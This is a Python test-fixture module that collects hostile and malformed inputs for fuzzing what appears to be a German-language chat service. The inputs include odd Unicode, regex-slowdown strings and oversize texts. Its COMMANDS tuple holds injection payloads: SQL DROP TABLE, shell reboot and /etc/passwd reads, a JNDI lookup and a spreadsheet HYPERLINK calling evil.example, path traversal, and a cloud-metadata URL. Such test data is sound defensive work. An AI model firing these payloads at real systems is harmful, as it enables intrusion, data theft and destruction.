"""The hostile corpus: what somebody may write to harm the program, its pages, or who reads them.

Shared by every test that lets it through a channel, a form or a frame.
"""

from __future__ import annotations

from typing import Final

from tests.desk.hostile import HOSTILE

MARKUP: Final = HOSTILE
"""Texts that would run in a page."""

ODD: Final = (
    "",
    " ",
    "\t\n\r\n ",
    "\0",
    "Wo ist\0 mein Pass?",
    "\ud800",
    "Pass \udfff\ud800 verloren",
    "\u202eneffo nnaw\u202c",
    "\u2066\u2067\u2068 wann offen",
    "Z\u0351\u036b\u0343a\u0363\u0353l\u033c\u0326g\u034e\u0319o\u0322" * 40,
    "\u200b\u200c\u200d\ufeff",
    "\u0301" * 300,
    "👍",
    "👨‍👩‍👧‍👦" * 50,
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "\U000e0041\U000e0042",
    "\x1b[31mrot\x07\x08",
    "\u2028Zeile\u2029Absatz\x85",
    "ﷺ" * 100,
    "𝓟𝓪𝓼𝓼 𝓿𝓮𝓻𝓵𝓸𝓻𝓮𝓷",
    "Раss vеrlоrеn",
    "٣٤٥ 三四五 ⅨⅩ",
    "İıſßẞΣςΐ",
)
"""Texts without sense or with characters that break what is not made for them."""

COMMANDS: Final = (
    "/" + "a" * 300,
    "/start " + "x" * 200,
    "/start ../../etc/passwd",
    "/mensch@" + "b" * 100,
    "/loeschen ja",
    "/verbinden 000000",
    "@all @everyone @channel",
    "'; DROP TABLE citizens; --",
    "$(reboot) `reboot` && reboot | cat /etc/passwd",
    "${jndi:ldap://evil.example/x}",
    "%s%s%s%n %(x)s {0} {x.__class__}",
    "{ $town } { -brand } { town ->",
    "../../../../etc/passwd",
    "file:///etc/passwd http://169.254.169.254/latest",
    '=HYPERLINK("http://evil.example")',
    "EVALSHA\r\nFLUSHALL\r\n",
    '}\n{"t":"close"}',
    "__proto__",
    "NaN",
    "-1",
    "99999999999999999999999999",
)
"""Texts that would be an order to something behind."""

SLOW: Final = (
    "a" * 4000,
    "aA" * 2000,
    "wo " * 1300,
    "Müllabfuhrsperrmüllanmeldungsformularausgabestelle" * 70,
    "1 " * 2000,
    "0-" * 2000,
    "DE" + "0" * 3990,
    "a@" * 2000,
    "a." * 1990 + "@",
    "http://" * 570,
    "(" * 4000,
    "[" * 2000 + "]" * 2000,
    "*_`" * 1300,
    "!?" * 2000,
    "\n" * 4000,
    "ä" * 4000,
    "nicht " * 660,
    "Straße 1 " * 440,
    " " * 3998 + "x",
    "😀" * 2000,
)
"""As long as a message may be, made for matchers that look again and again."""

HUGE: Final = ("x" * 1_000_000, "😀" * 4096, "Wo? " * 16_384)
"""Longer than a message may be."""

CORPUS: Final = (*MARKUP, *ODD, *COMMANDS, *SLOW)
"""All that fits into a message."""
